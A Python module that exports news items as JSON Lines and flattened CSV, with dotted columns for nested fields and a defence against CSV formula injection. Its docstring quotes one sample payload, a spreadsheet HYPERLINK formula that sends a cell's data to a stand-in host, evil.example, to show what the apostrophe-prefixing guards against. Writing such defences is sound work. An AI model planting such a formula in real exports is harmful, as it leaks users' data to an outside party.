"""Stored items as export rows: JSON Lines (every event field as is) and flat CSV.

CSV flattening (one row per item, the same columns for every item, in model order):
nested objects become dotted columns (``content.text``, ``language.detected``,
``enrichment.word_count``), a missing object leaves its columns empty; lists
(``authors``, ``categories``, ``enclosures``, ``quality_flags``, ``changed_fields``) are
one cell holding a compact JSON array, so nothing is lost or ambiguous; times are RFC 3339.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return
as a formula (``=HYPERLINK("http://evil.example/?"&A1, "Click")``), and feed text can start
with anything. Such a cell gets a leading ``'`` (OWASP's "CSV injection" advice), unless it is
a plain number; ``neutralize_formulas=False`` writes the values as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any, get_args, get_origin

import orjson
from pydantic import BaseModel

from newswire_schemas.item import Item


def _columns(model: type[BaseModel], prefix: str = "") -> list[str]:
    cols: list[str] = []
    for name, field in model.model_fields.items():
        ann = field.annotation
        # Model or Model | None is nested; tuples and lists stay one (JSON) column.
        args = (ann,) if get_origin(ann) in (tuple, list) else get_args(ann) or (ann,)
        inner = [a for a in args if a is not type(None)]
        nested = next((a for a in inner if isinstance(a, type) and issubclass(a, BaseModel)), None)
        if nested is not None:
            cols += _columns(nested, f"{prefix}{name}.")
        else:
            cols.append(prefix + name)
    return cols


CSV_COLUMNS: tuple[str, ...] = tuple(_columns(Item))
_PREFIXES = {c[: i + 1] for c in CSV_COLUMNS for i, ch in enumerate(c) if ch == "."}


def flatten(item: Item) -> dict[str, str]:
    """The item as one CSV row: every column of :data:`CSV_COLUMNS`, values as text."""
    row: dict[str, str] = dict.fromkeys(CSV_COLUMNS, "")

    def walk(data: dict[str, Any], prefix: str) -> None:
        for key, value in data.items():
            name = prefix + key
            if isinstance(value, dict) and name + "." in _PREFIXES:
                walk(value, name + ".")
            elif name not in row:
                continue  # a field this version's columns do not have
            elif isinstance(value, list | dict):
                row[name] = orjson.dumps(value).decode()
            elif value is None:
                row[name] = ""
            elif isinstance(value, bool):
                row[name] = "true" if value else "false"
            else:
                row[name] = str(value)

    walk(item.model_dump(mode="json"), "")
    return row


def write_jsonl(items: Iterable[Item], out: IO[bytes]) -> int:
    """One JSON object per line with every event field; returns the item count."""
    count = 0
    for item in items:
        out.write(orjson.dumps(item.model_dump(mode="json")) + b"\n")
        count += 1
    return count


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


def neutralized(cell: str) -> str:
    """``cell`` as a spreadsheet shows it without running it: a leading ``'`` when it would
    start a formula (and is not a plain number)."""
    if cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def write_csv(items: Iterable[Item], out: IO[str], *, neutralize_formulas: bool = True) -> int:
    """A header row, then one flattened row per item (RFC 4180 quoting); returns the count.
    Cells that would start a spreadsheet formula are neutralized unless told otherwise."""
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    count = 0
    for item in items:
        row = flatten(item)
        if neutralize_formulas:
            row = {k: neutralized(v) for k, v in row.items()}
        writer.writerow(row)
        count += 1
    return count
